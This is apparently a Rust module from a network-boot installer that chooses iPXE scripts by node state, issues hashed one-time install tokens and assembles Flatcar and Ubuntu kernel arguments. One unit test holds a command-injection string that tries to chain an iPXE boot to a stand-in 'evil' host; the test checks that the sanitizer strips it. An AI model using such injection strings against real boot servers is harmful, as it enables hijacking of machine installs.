//! Boot decisions, free of sockets: which iPXE script a machine gets for its recorded state,
//! the one-time tokens its install carries, and the kernel arguments that pass them on.

use std::fmt::Write as _;

use sha2::{Digest, Sha256};

use crate::desc::OsProfile;
use crate::plan::{NodePlan, Plan};
use crate::status::NodeState;

/// How long an install token unlocks the config and reports. Long enough for a slow
/// installer on a busy network; short enough that a leaked script is soon worthless.
pub const TOKEN_TTL_MILLIS: u64 = 6 * 3600 * 1000;

/// Script fetches within [`LOOP_WINDOW_MILLIS`] without the node getting further, after
/// which it is marked failed instead of being handed the same script again.
pub const LOOP_LIMIT: usize = 8;
pub const LOOP_WINDOW_MILLIS: u64 = 10 * 60 * 1000;

/// What a planned machine's iPXE script does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptKind {
    /// Load the installer with a fresh token.
    Install,
    /// Boot the installed system from the local disk.
    LocalDisk,
    /// Wait and ask again: a failed node is not reinstalled behind the operator's back
    /// (a broken disk would otherwise be wiped and retried in a loop).
    Hold,
}

/// Installed (or joined) nodes boot from disk; failed nodes are held until the operator
/// asks for a reinstall (their state goes back to `planned`); everything else installs.
pub fn script_kind(state: Option<NodeState>) -> ScriptKind {
    match state {
        Some(NodeState::Installed | NodeState::Joined) => ScriptKind::LocalDisk,
        Some(NodeState::Failed) => ScriptKind::Hold,
        _ => ScriptKind::Install,
    }
}

/// How often a held (failed) machine asks for its script again: after `node reinstall` it
/// installs within this time, without anyone at its console.
pub const HOLD_RETRY_SECS: u32 = 60;

/// A message made safe for an iPXE `echo` line: no `${}` expansion, no `||`/`&&` command
/// chaining, no line breaks (a report's message comes from the node).
pub fn ipxe_text(msg: &str) -> String {
    msg.chars()
        .take(200)
        .map(|c| {
            if c.is_ascii_alphanumeric() || " .,:;/_=+@()-[]?!%*".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// A fresh token: what goes to the node, and the hash the store keeps.
pub struct NewToken {
    pub secret: String,
    pub hash: String,
}

pub fn new_token() -> std::io::Result<NewToken> {
    let mut raw = [0u8; 32];
    getrandom::fill(&mut raw).map_err(std::io::Error::other)?;
    let secret = hex(&raw);
    let hash = hash_token(&secret);
    Ok(NewToken { secret, hash })
}

/// Lower-case hex SHA-256 of a presented token.
pub fn hash_token(secret: &str) -> String {
    hex(&Sha256::digest(secret.as_bytes()))
}

fn hex(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        let _ = write!(s, "{b:02x}");
    }
    s
}

/// The node's config URL with its token (what the installer fetches).
pub fn config_url(node: &NodePlan, token: &str) -> String {
    format!("{}?token={token}", node.boot.config)
}

pub fn report_url(plan: &Plan, node: &NodePlan) -> String {
    format!(
        "{}/report/{}",
        plan.bootstrapper.http_base,
        node.mac.url_form()
    )
}

/// Kernel arguments of the install: the description's own, the profile's config hand-off,
/// then Slipway's (see docs/boot-flow.md).
pub fn install_kernel_args(plan: &Plan, node: &NodePlan, token: &str) -> Vec<String> {
    let config = config_url(node, token);
    let mut args = plan.os.kernel_args.clone();
    match plan.os.profile {
        OsProfile::Flatcar => {
            args.push("flatcar.first_boot=1".to_string());
            args.push(format!("ignition.config.url={config}"));
        }
        OsProfile::Ubuntu => {
            // casper fetches the live ISO, then autoinstall reads NoCloud from Slipway.
            args.push("ip=dhcp".to_string());
            args.push(format!("url={}", plan.assets.ubuntu_iso));
            args.push("autoinstall".to_string());
            args.push(format!(
                "ds=nocloud;s={}/nocloud/{}/{token}/",
                plan.bootstrapper.http_base,
                node.mac.url_form()
            ));
            args.push("cloud-config-url=/dev/null".to_string());
        }
    }
    args.push(format!("slipway.config={config}"));
    args.push(format!("slipway.report={}", report_url(plan, node)));
    args.push(format!("slipway.token={token}"));
    args.push(format!("slipway.bootstrapper={}", plan.bootstrapper.fqdn));
    args.push(format!("slipway.node={}", node.hostname));
    args
}

/// Bounded memory of recent script fetches per machine, to catch a machine that keeps
/// coming back for its install script without ever fetching its kernel.
#[derive(Default)]
pub struct LoopGuard {
    fetches: std::sync::Mutex<std::collections::HashMap<String, Vec<u64>>>,
}

impl LoopGuard {
    /// Notes a script fetch at `now`; returns how many fell in the window, this one included.
    pub fn note(&self, mac: &str, now: u64) -> usize {
        let mut map = self.fetches.lock().unwrap_or_else(|e| e.into_inner());
        if map.len() > 100_000 {
            map.retain(|_, v| v.last().is_some_and(|&t| now - t < LOOP_WINDOW_MILLIS));
        }
        let v = map.entry(mac.to_string()).or_default();
        v.retain(|&t| now.saturating_sub(t) < LOOP_WINDOW_MILLIS);
        v.push(now);
        v.len()
    }

    /// Forgets a machine's fetches (it made progress, or the operator reset it).
    pub fn clear(&self, mac: &str) {
        let mut map = self.fetches.lock().unwrap_or_else(|e| e.into_inner());
        map.remove(mac);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn installed_nodes_boot_from_disk_until_reinstalled() {
        assert_eq!(script_kind(None), ScriptKind::Install);
        assert_eq!(script_kind(Some(NodeState::Pxe)), ScriptKind::Install);
        assert_eq!(script_kind(Some(NodeState::Failed)), ScriptKind::Hold);
        assert_eq!(
            script_kind(Some(NodeState::Installed)),
            ScriptKind::LocalDisk
        );
        assert_eq!(script_kind(Some(NodeState::Joined)), ScriptKind::LocalDisk);
        assert_eq!(script_kind(Some(NodeState::Planned)), ScriptKind::Install);
    }

    #[test]
    fn messages_cannot_inject_ipxe_commands() {
        let m = ipxe_text("disk ${x} || chain http://evil/ && exit\nshell\r");
        assert!(
            !m.contains('$') && !m.contains('|') && !m.contains('&'),
            "{m}"
        );
        assert!(!m.contains('\n') && !m.contains('\r'), "{m}");
        assert!(m.starts_with("disk __x_ __ chain http://evil/ __"), "{m}");
        assert_eq!(ipxe_text(&"x".repeat(500)).len(), 200);
    }

    #[test]
    fn tokens_are_random_and_hash_as_stored() {
        let a = new_token().unwrap();
        let b = new_token().unwrap();
        assert_ne!(a.secret, b.secret);
        assert_eq!(a.secret.len(), 64);
        assert_eq!(hash_token(&a.secret), a.hash);
        assert_ne!(a.hash, a.secret);
        // Known vector: sha256("abc").
        assert_eq!(
            hash_token("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn loop_guard_counts_within_the_window() {
        let g = LoopGuard::default();
        assert_eq!(g.note("m", 0), 1);
        assert_eq!(g.note("m", 1000), 2);
        assert_eq!(g.note("m", LOOP_WINDOW_MILLIS + 500), 2);
        g.clear("m");
        assert_eq!(g.note("m", LOOP_WINDOW_MILLIS + 600), 1);
    }
}
